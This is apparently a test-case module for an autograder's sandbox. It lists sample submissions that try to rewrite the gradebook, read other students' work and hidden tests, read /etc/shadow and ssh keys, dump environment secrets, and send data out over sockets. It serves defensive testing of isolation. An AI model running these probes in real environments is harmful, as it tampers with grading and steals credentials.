"""Submissions that look for what is not theirs: tests, answers, other students, the environment, the gradebook."""

from __future__ import annotations

from tests.corpus.case import FAILED, UNANSWERED, WRONG_SQUARE, Case, hand_in

TITLE = "Reading files and data of others"

SEARCH = """
import os
from pathlib import Path
found = []
for top in ("/", "..", "../..", "../../..", "/work", "/root", "/home", "/mnt", "/srv", "/tmp", "/var", "/opt"):
    for folder, folders, names in os.walk(top):
        if folder.count("/") > 6:
            folders.clear()
        wanted = {"gradebook.db", "nbgrader_config.py", "square.py", "mini.ipynb"}
        found += [f"{folder}/{name}" for name in wanted & set(names)]
print("found", len(found), "files")
"""


CASES = [
    Case(
        "gradebook",
        "opens `gradebook.db` in the parent folders to write its own score",
        hand_in(
            WRONG_SQUARE,
            first="""
            import sqlite3
            for path in ("gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db"):
                try:
                    sqlite3.connect(f"file:{path}?mode=rw", uri=True).execute("update grade set auto_score = 5")
                    print("got in")
                except sqlite3.Error as error:
                    print("refused", error)
            """,
        ),
        square=FAILED,
        sighted=("gradebook.db",),
        hides=("got in",),
        plain="finds it, writable",
    ),
    Case(
        "search for everything",
        "searches all folders of the machine for answers, tests, submissions and the gradebook",
        hand_in(first=SEARCH),
        shows=("found 0 files",),
        plain="reads other students' work and `source/`",
    ),
    Case(
        "other students",
        "lists `../../` to find other students' work",
        hand_in(
            first="""
        import os
        print([os.listdir(p) for p in ('.', '..')])
        os.listdir('../../submitted')
        """
        ),
        sighted=("list ../../submitted",),
        shows=("FileNotFoundError",),
        plain="reads them",
    ),
    Case(
        "answers imported",
        "imports the packages that hidden tests import",
        hand_in(
            None,
            first="""
            for name in ("solutions.square", "solutions", "autograder.judge.session", "autograder.gradebook", "tests"):
                try:
                    __import__(name)
                    print("got", name)
                except ImportError:
                    print("refused")
            """,
        ),
        square=UNANSWERED,
        shows=("refused",),
        hides=("got solutions", "got autograder", "got tests"),
    ),
    Case(
        "hidden tests through a hook",
        "registers `pre_run_cell` and `post_run_cell` hooks that print every cell",
        hand_in(
            first="""
            get_ipython().events.register('pre_run_cell', lambda info: print('cell:', info.raw_cell))
            get_ipython().events.register('post_run_cell', lambda result: print('ran:', result.info.raw_cell))
            """
        ),
        sighted=("pre_run_cell",),
        plain="prints every hidden test into the student's feedback",
    ),
    Case(
        "hidden tests in the history",
        "prints IPython's history, `In`, `Out` and all its variables at the end",
        hand_in(
            last="""
        print(In, Out)
        %history -g
        %whos
        print(get_ipython().history_manager.input_hist_raw)
        """
        ),
    ),
    Case(
        "hidden tests in memory",
        "searches all objects of its process for the text of hidden tests",
        hand_in(
            last="""
            import gc
            marks = [mark[::-1] for mark in ("tupni_terces", "ecnerefer sa")]
            hits = 0
            for box in gc.get_objects():
                items = list(box.values()) if isinstance(box, dict) else list(box) if type(box) in (list, tuple) else []
                texts = [one for one in items if isinstance(one, str) and box is not marks]
                hits += sum(mark in text for text in texts for mark in marks)
            print("hits", hits)
            """
        ),
        shows=("hits 0",),
        sighted=("all objects",),
    ),
    Case(
        "hidden tests up the stack",
        "prints the source and the local variables of every frame above a function when it is called",
        hand_in(
            """
            import sys
            trace = []
            def square(x):
                frame = sys._getframe()
                while frame:
                    trace.append(f"{frame.f_code.co_filename} {sorted(frame.f_locals)}")
                    frame = frame.f_back
                return x * x
            """,
            last="print('\\n'.join(trace))",
        ),
        shows=("server.py",),
        outcome="the frames are the runner's own; no test is in its process",
    ),
    Case(
        "environment",
        "prints the environment and the command line",
        hand_in(first="import os, sys\nprint(sorted(os.environ), sys.argv, sys.orig_argv)\n!env"),
        hides=("SECRET", "PASSWORD", "TOKEN", "PGPASS"),
    ),
    Case(
        "processes",
        "reads `/proc` of all processes, and their memory",
        hand_in(
            first="""
            import glob
            print('seen', glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/*/cmdline'))
            !ps aux
            """
        ),
        shows=("seen []",),
    ),
    Case(
        "accounts and keys",
        "reads `/etc/passwd`, `/etc/shadow`, ssh keys and shell histories",
        hand_in(
            first="""
            import os
            for path in ("/etc/shadow", "~/.ssh/id_rsa", "/root/.ssh/id_rsa", "/root/.bash_history", "~/.netrc"):
                try:
                    print("got", len(open(os.path.expanduser(path)).read()))
                except OSError as error:
                    print("refused")
            """
        ),
        hides=("got ",),
        sighted=("/root/.ssh/id_rsa",),
    ),
    Case(
        "links",
        "links files of the system into its own folder and reads them through the links",
        hand_in(
            first="""
            import os
            os.symlink("/etc/shadow", "shadow")
            os.symlink("/", "root")
            for path in ("shadow", "root/root", "root/work", "root/proc/1/environ"):
                try:
                    print("got", open(path).read())
                except OSError:
                    print("refused")
            """
        ),
        hides=("got ",),
    ),
    Case(
        "network",
        "sends what it finds over TCP, UDP, DNS, IPv6, raw, netlink and abstract unix sockets",
        hand_in(
            first="""
            import socket, urllib.request
            def attempt(what):
                try:
                    what()
                    print("got out")
                except OSError as error:
                    print("refused")
            attempt(lambda: socket.create_connection(("192.0.2.1", 80), timeout=1))
            attempt(lambda: socket.create_connection(("127.0.0.1", 22), timeout=1))
            attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.1", 53)))
            attempt(lambda: socket.socket(socket.AF_INET6, socket.SOCK_STREAM).connect(("::1", 80)))
            attempt(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW))
            attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
            attempt(lambda: socket.socket(socket.AF_UNIX).connect("\\0/tmp/.X11-unix/X0"))
            attempt(lambda: socket.getaddrinfo("example.org", 80))
            attempt(lambda: urllib.request.urlopen("http://example.org", timeout=1))
            """
        ),
        hides=("got out",),
        sighted=("network",),
        risky=True,
    ),
    Case(
        "C library",
        "calls `ptrace`, `process_vm_readv` and `mount` through ctypes",
        hand_in(
            first="""
            import ctypes
            libc = ctypes.CDLL(None)
            mounted = libc.mount(b"none", b"/home", b"tmpfs", 0, 0)
            print("codes", [libc.ptrace(16, 1, 0, 0), mounted, libc.unshare(0x10000000)])
            """
        ),
        shows=("codes [-1, -1, -1]",),
        risky=True,
    ),
    Case(
        "hidden inputs kept",
        "keeps the arguments of every call and prints them in a later cell",
        hand_in(
            "kept = []\ndef square(x):\n    kept.append(x)\n    return np.asarray(x) ** 2",
            last="print('kept', len(kept))",
        ),
        shows=("kept",),
        outcome="it sees the inputs, as every function does, but no expected values",
    ),
    Case(
        "left for the next student",
        "writes files and shared memory for the next submission to find",
        hand_in(
            first="""
            for path in ("note", "/tmp/note", "/dev/shm/note", "/home/note", "../note"):
                try:
                    open(path, "w").write("the answer is 42")
                except OSError:
                    pass
            """
        ),
        outcome="its folders are emptied, as the next case shows",
    ),
    Case(
        "found from the one before",
        "looks for files and shared memory of the previous submission",
        hand_in(
            first="""
            import os
            print('left', [p for p in ('note', '/tmp/note', '/dev/shm/note', '../note') if os.path.exists(p)])
            """
        ),
        shows=("left []",),
    ),
    Case(
        "engine's own code",
        "reads the part of the engine that is mounted in its sandbox",
        hand_in(
            first="""
            import inspect, os
            import autograder.protocol.codec
            print(len(inspect.getsource(autograder.protocol.codec)) > 0, os.path.exists("/engine/autograder/judge"))
            """
        ),
        shows=("False",),
        outcome="this is the public code of the runner; neither the judge nor the tests are there",
    ),
    Case(
        "flood of paths",
        "opens a hundred harmless paths before the gradebook and another student's work",
        hand_in(
            first="""
            for path in [f'../../data{i}.csv' for i in range(100)] + ['../../gradebook.db', '../../submitted/eve/x']:
                try:
                    open(path)
                except OSError:
                    pass
            """
        ),
        sighted=("more of this kind (files)", "gradebook.db", "submitted/eve"),
    ),
    Case(
        "threads and finalizers",
        "opens paths in a thread and in a finalizer",
        hand_in(
            first="""
            import os, threading, weakref
            thread = threading.Thread(target=os.listdir, args=('../../submitted',))
            thread.start()
            thread.join()
            class Last:
                pass
            last = Last()
            weakref.finalize(last, open, '../../gradebook.db')
            del last
            """
        ),
        sighted=("list ../../submitted", "open ../../gradebook.db"),
    ),
]
